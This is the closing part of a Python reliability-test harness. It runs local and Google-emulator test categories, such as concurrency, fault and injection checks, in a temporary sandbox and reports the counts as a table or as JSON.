LOCAL_PARTS: tuple[Callable[[Run], None], ...] = (kills, concurrent_xlsx, hostile_edits, injections_xlsx,
                                                   rollback_identity)
GOOGLE_PARTS: tuple[Callable[[Run, Any], None], ...] = (faults, concurrent_google, injections_google, access)
PARTS = ("local", "google")


def measure(quick: bool, work: Path, parts: tuple[str, ...] = PARTS) -> Run:
    """Run every category of ``parts`` and return the counts (the test runs each half on its own,
    so that two workers share them)."""
    run = Run(work, quick)
    # the forking parts run before the emulator's threads start
    if "local" in parts:
        for part in LOCAL_PARTS:
            timed(part, run)
    if "google" in parts:
        with google_env(run) as google:
            for google_part in GOOGLE_PARTS:
                timed(google_part, run, google)
    run.tracebacks.what = "stderr of every CLI run above (in-process and subprocesses) searched for «Traceback»"
    run.tracebacks.tries = run.tracebacks.good["in-process CLI runs"] + run.tracebacks.good["CLI subprocesses"]
    run.figures.append(run.tracebacks)
    return run


def table(run: Run) -> str:
    return "\n".join([HEAD, *(f.row() for f in run.figures)])


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="a small run (about a minute)")
    parser.add_argument("--json", action="store_true", help="the counts as JSON instead of the table")
    parser.add_argument("--part", choices=PARTS, action="append",
                        help="only this half of the categories (repeatable; default: both)")
    args = parser.parse_args(argv)
    saved = dict(os.environ)
    try:
        with tempfile.TemporaryDirectory(prefix="strategos-reliability-") as tmp:
            work = Path(tmp)
            os.environ["STRATEGOS_SECRETS"] = str(work / "secrets.json")  # never the GM's real store
            os.environ["XDG_CONFIG_HOME"] = str(work / "config")
            started = time.perf_counter()
            run = measure(args.quick, work, tuple(args.part or PARTS))
            elapsed = time.perf_counter() - started
    finally:  # called from a test: leave the process's environment as it was
        os.environ.clear()
        os.environ.update(saved)
    if args.json:
        print(json.dumps([{"category": f.category, "tries": f.tries, "good": dict(f.good), "bad": dict(f.bad)}
                          for f in run.figures], ensure_ascii=False, indent=1))
    else:
        print(table(run))
        print(f"\n({'quick' if args.quick else 'full'} run, {elapsed:.0f} s)")
    return 1 if any(n for f in run.figures for n in f.bad.values()) else 0


if __name__ == "__main__":
    sys.exit(main())
